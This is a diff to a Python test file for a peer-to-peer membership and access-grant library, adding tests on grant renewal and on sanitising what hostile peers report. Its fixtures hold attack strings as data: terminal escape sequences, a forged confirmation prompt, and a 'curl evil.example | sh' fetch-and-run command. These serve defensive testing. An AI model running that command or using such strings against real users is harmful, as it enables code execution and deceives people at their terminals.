@@ -11,6 +11,7 @@ import logging
 import os
 import time
 from pathlib import Path
+from typing import Any
 
 import attrs
 import pytest
@@ -18,7 +19,7 @@ import trio
 from membership.test_joining import Admin, join, newcomer, open_admin, opened
 from membership.test_nearby import ask, until, waiting
 
-from punch.access import Issuer, Lock, encode_chain, fingerprint_of
+from punch.access import Issuer, Kind, Lock, encode_chain, fingerprint_of
 from punch.capability import PeerId
 from punch.exceptions import ConfigurationError, NotPermitted, PeerUnreachable
 from punch.libp2p import load_key, verify
@@ -35,6 +36,7 @@ from punch.membership import (
 from punch.membership import _members as members
 from punch.membership._home import CHAIN
 from punch.membership._messages import PROTOCOL, Opening, Outcome, Proof, Reply, Talk, encode
+from punch.membership._renewing import renew
 from punch.membership._serving import scout
 from punch.membership._tries import (
     MAX_AT_ONCE_OF_HOST,
@@ -205,10 +207,13 @@ async def test_what_a_hostile_member_tells_of_others_stays_bounded_and_plain(
         with newcomer(admin) as (node, folder):
             joined = await join_with(node, admin.invite(), called="x", now=time.time())
             keys = [load_key(tmp_path / f"{number}.key").peer_id for number in range(3)]
-            evil = "\x1b]0;owned\x07\x1b[2J\u202eevil\n" + "n" * 5000
+            evil = "\x1b]0;owned\x07\x1b[2J\u202eevil\nx  dial  member" + "n" * 5000
             told: list[object] = [
                 {"machine": keys[0], "name": evil, "ends": (1 << 53) - 1, "seen": (1 << 53) - 1},
-                {"machine": keys[1], "scopes": [evil, "\x1b[2J", *map(str, range(10_000))]},
+                {
+                    "machine": keys[1],
+                    "scopes": [evil, "dial\nfake  admin  member", *map(str, range(10_000))],
+                },
                 {"machine": keys[2], "owner": "\x1b[2J", "name": "lamp"},
                 {"machine": evil},
                 {"machine": "x" * 900},
@@ -228,7 +233,7 @@ async def test_what_a_hostile_member_tells_of_others_stays_bounded_and_plain(
         assert (kept[keys[2]].owner, kept[keys[2]].number) == (None, 0)
         assert len(kept[keys[0]].name) <= members.MAX_NAME_CHARACTERS
         assert kept[keys[0]].seen <= time.time()
-        assert kept[keys[1]].scopes <= {"\x1b[2J", *map(str, range(14))}
+        assert kept[keys[1]].scopes == {*map(str, range(14))}
         size = len(home.folder.read(members.FILE) or b"")
         assert size < 8192
 
@@ -278,6 +283,7 @@ class Posing:
         {"namespace": "../../etc"},
         {"namespace": ""},
         {"chain": b"garbage"},
+        {"reached": "x\npunch: did that member's screen show 123 456? [y/N] \x1b[2J"},
         {"refused": "x\x1b[2J", "reason": "\x1b[2J run: curl evil.example | sh"},
     ],
 )
@@ -292,6 +298,7 @@ async def test_a_stranger_that_answers_first_keeps_nobody_from_the_member(
 
         async def confirm(joined: Joined, asked: Asked) -> bool:
             questions.append(joined.by)
+            assert (joined.reached + joined.trouble + joined.name).isprintable()
             return joined.by == admin.node.peer_id
 
         async def approve() -> None:
@@ -314,7 +321,8 @@ async def test_a_stranger_that_answers_first_keeps_nobody_from_the_member(
                 )
         show("who was asked about", [each == posing.node.peer_id for each in questions])
         assert joined.by == admin.node.peer_id
-        assert questions == ([] if lies else [posing.node.peer_id]) + [admin.node.peer_id]
+        is_let_in = lies.keys() <= {"reached"}
+        assert questions == [posing.node.peer_id] * is_let_in + [admin.node.peer_id]
 
 
 async def test_one_machine_shows_its_digits_once(tmp_path: Path) -> None:
@@ -485,6 +493,60 @@ async def test_a_renewal_adds_no_signature_of_the_root(tmp_path: Path) -> None:
         show("renewed by", ["root" if each == root.peer_id else "admin" for each in issuers])
         assert issuers == [root.peer_id, home.machine]
         assert getattr(member, "ends", 0) <= home.grant.ends
+
+
+@pytest.mark.parametrize("kind", ["machine", "admin"])
+async def test_a_renewal_makes_no_machine_of_an_admin(kind: Kind, tmp_path: Path) -> None:
+    """An admin that went astray is asked for a renewal, and gives another grant in its place."""
+    async with open_admin(tmp_path) as admin:
+        with newcomer(admin) as (node, folder):
+            joined = await join_with(node, admin.invite(), called="x", now=time.time())
+            home = keep_joined(joined, folder, now=time.time())
+        lock = Lock(home.namespace, verify)
+        scopes = frozenset({"dial", "listen", *({"admin"} & {kind})})
+        root, key = admin.home.root_key(), admin.home.key()
+        assert root is not None
+        old = Issuer(key=root.peer_id, sign=root.sign).issue(
+            lock, home.machine, now=time.time(), kind=kind, scopes=scopes, seconds=86_400
+        )
+        home.folder.write(CHAIN, encode_chain(old))
+        ours = DiskMembership(home, tmp_path / "ours.key")
+        node = admin.network.node(ours.process)
+        ours.found(admin.node.peer_id, admin.at)
+        issuer = Issuer(key=key.peer_id, sign=key.sign, chain=admin.home.chain())
+        given: dict[str, Any] = {}
+
+        async def gives(stream: Stream) -> None:
+            await Talk(stream).receive(Opening, seconds=5)
+            chain = issuer.issue(lock, home.machine, now=time.time(), **given)
+            await Talk(stream).send(Outcome(chain=encode_chain(chain)))
+
+        admin.node.handle(PROTOCOL, gives)
+        other: Kind = "machine" if kind == "admin" else "admin"
+        for given in (
+            {"kind": other, "scopes": {"dial", *({"admin"} & {other})}},
+            {"kind": kind, "scopes": scopes, "is_mine": True},
+            {"kind": kind, "scopes": {*scopes, "lend"}},
+            {"kind": kind, "scopes": scopes, "seconds": 3600},
+        ):
+            assert not await renew(ours, node), given
+            assert home.chain() == old
+        given = {"kind": kind, "scopes": scopes - {"listen"}}
+        assert await renew(ours, node)
+        assert (home.grant.kind, home.grant.owner) == (kind, home.machine)
+
+
+async def test_a_peer_with_another_kind_of_key_is_no_guest(
+    tmp_path: Path, caplog: pytest.LogCaptureFixture
+) -> None:
+    """libp2p has keys that no grant can be for: it is turned away, and is no bug of ours."""
+    async with open_admin(tmp_path) as admin:
+        code = admin.invite()
+        node = admin.network.node("Qm" + "x" * 44)
+        with pytest.raises(PeerUnreachable):
+            await join_with(node, code, called="x", now=time.time())
+        assert caplog.records == []
+        assert (await join(admin, code)).name == "laptop"
 
 
 async def test_a_grant_is_shown_to_no_stranger_at_a_members_old_address(tmp_path: Path) -> None:
